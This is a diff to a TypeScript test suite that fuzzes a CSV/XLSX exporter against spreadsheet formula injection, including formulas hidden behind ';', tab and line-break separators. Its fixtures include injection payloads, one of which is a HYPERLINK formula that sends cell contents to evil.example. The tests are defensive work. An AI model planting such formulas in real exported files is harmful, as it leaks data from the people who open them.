@@ -2,7 +2,8 @@ import ExcelJS from 'exceljs';
 import fc from 'fast-check';
 import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { exportChecks, exportMapping } from '../../electron/core/files';
+import { render } from '../../electron/cli/format';
+import { csvText, exportChecks, exportMapping } from '../../electron/core/files';
 import type { Check } from '../../shared/domain/check';
 import type { Item } from '../../shared/domain/item';
 import type { FilePayload } from '../../shared/domain/mapping';
@@ -33,6 +34,13 @@ const HOSTILE = [
   '=1+1',
   '-',
   '+',
+  // Behind a separator: a Turkish Excel splits on ';', others on tab (issue 18, finding 5).
+  'Döner;=HYPERLINK("http://evil.example/?"&A1,"click")',
+  'Ayran,=1+1',
+  'Kola\t@SUM(A1:A9)',
+  'Su;-2+3',
+  'Çay;\t=1+1',
+  'Tost;\r+1',
 ];
 
 /** Server text: ordinary, hostile, or anything with a formula character in front. */
@@ -45,11 +53,23 @@ const serverText = fc.oneof(
       fc.string({ maxLength: 15 }),
     )
     .map(([a, b]) => a + b),
+  // A formula in the middle, behind whatever a spreadsheet may split on.
+  fc
+    .tuple(
+      fc.string({ maxLength: 8 }),
+      fc.constantFrom(',', ';', '\t', '\r\n', '\n', '"', ';"'),
+      fc.constantFrom('=', '+', '-', '@', '\t', '\r'),
+      fc.string({ maxLength: 8 }),
+    )
+    .map((parts) => parts.join('')),
 );
 
-function csvCells(bytes: Uint8Array): string[][] {
+/** The separators a spreadsheet may split on: ',' (what we write), ';' (Turkish Excel) and tab. */
+const SEPARATORS = [',', ';', '\t'] as const;
+
+function csvCells(bytes: Uint8Array, delimiter: (typeof SEPARATORS)[number] = ','): string[][] {
   const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '');
-  return Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true }).data;
+  return Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data;
 }
 
 async function xlsxCells(bytes: Uint8Array): Promise<ExcelJS.CellValue[]> {
@@ -62,9 +82,18 @@ async function xlsxCells(bytes: Uint8Array): Promise<ExcelJS.CellValue[]> {
 }
 
 function expectSafeCsv(bytes: Uint8Array) {
-  for (const cell of csvCells(bytes).flat()) {
-    expect(DANGEROUS.test(cell), JSON.stringify(cell)).toBe(false);
-    if (cell.startsWith('-')) expect(PLAIN_NUMBER.test(cell), JSON.stringify(cell)).toBe(true);
+  for (const delimiter of SEPARATORS) {
+    for (const cell of csvCells(bytes, delimiter).flat()) {
+      const why = `${JSON.stringify(cell)} split on ${JSON.stringify(delimiter)}`;
+      if (delimiter === ',') expect(DANGEROUS.test(cell), why).toBe(false);
+      // Split on another separator, our quotes no longer line up and a cell may begin with the rest
+      // of a line break: what counts is what a spreadsheet sees after skipping it.
+      const start = delimiter === ',' ? cell : cell.replace(/^[\r\n]+/, '');
+      expect(DANGEROUS.test(start), why).toBe(false);
+      // ... and a row may start with an amount we wrote, then our ','.
+      const lead = delimiter === ',' ? start : (start.split(',')[0] ?? '');
+      if (start.startsWith('-')) expect(PLAIN_NUMBER.test(lead), why).toBe(true);
+    }
   }
 }
 
@@ -198,6 +227,31 @@ function toCheck(r: {
     extra: {},
   };
 }
+
+describe('one CSV writer, quoting whatever a spreadsheet may split on', () => {
+  test('the CLI writes the core’s CSV, byte for byte, and stays safe split on , ; and tab', () => {
+    fc.assert(
+      fc.property(fc.array(fc.tuple(serverText, serverText), { minLength: 1, maxLength: 6 }), (rows) => {
+        const columns = [
+          { header: 'Name', value: (r: [string, string]) => r[0] },
+          { header: 'Code', value: (r: [string, string]) => r[1] },
+        ];
+        const cli = render('csv', rows, columns);
+        expect(cli).toBe(csvText(columns, rows));
+        expectSafeCsv(new TextEncoder().encode(cli));
+      }),
+      { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) },
+    );
+  });
+
+  test.each(['Döner;Dürüm', 'Ayran\tKola', 'a,b', 'x"y', 'line\r\nbreak'])(
+    'a cell holding a separator, quote or line break is quoted: %j',
+    (cell) => {
+      const line = csvText([{ header: 'H' }], [[cell]]).split('\r\n')[1] ?? '';
+      expect(line.startsWith('"'), JSON.stringify(line)).toBe(true);
+    },
+  );
+});
 
 // ------------------------------------------------------------------ from the service to the file
 
